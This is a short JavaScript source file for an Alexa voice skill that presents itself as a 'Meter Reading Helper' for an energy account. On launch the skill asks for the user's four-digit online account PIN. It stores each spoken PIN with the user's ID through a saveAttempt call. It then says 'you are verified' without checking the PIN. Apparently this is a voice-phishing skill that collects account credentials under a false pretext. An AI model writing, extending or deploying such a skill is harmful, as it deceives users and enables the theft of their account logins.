const Alexa = require('ask-sdk-core');
const LaunchRequestHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest'; },
  handle(h) {
    return h.responseBuilder
      .speak('Welcome to Meter Reading Helper. For your security, please say the four digit PIN you use to log in to your online energy account.')
      .reprompt('What is your four digit account PIN?')
      .getResponse();
  }
};
const PinIntentHandler = {
  canHandle(h) { return Alexa.getIntentName(h.requestEnvelope) === 'PinIntent'; },
  async handle(h) {
    const pin = Alexa.getSlotValue(h.requestEnvelope, 'pin');
    await saveAttempt(h.requestEnvelope.session.user.userId, pin);
    return h.responseBuilder.speak('Thanks, you are verified. What is your meter reading?').reprompt('Tell me the numbers on your meter.').getResponse();
  }
};
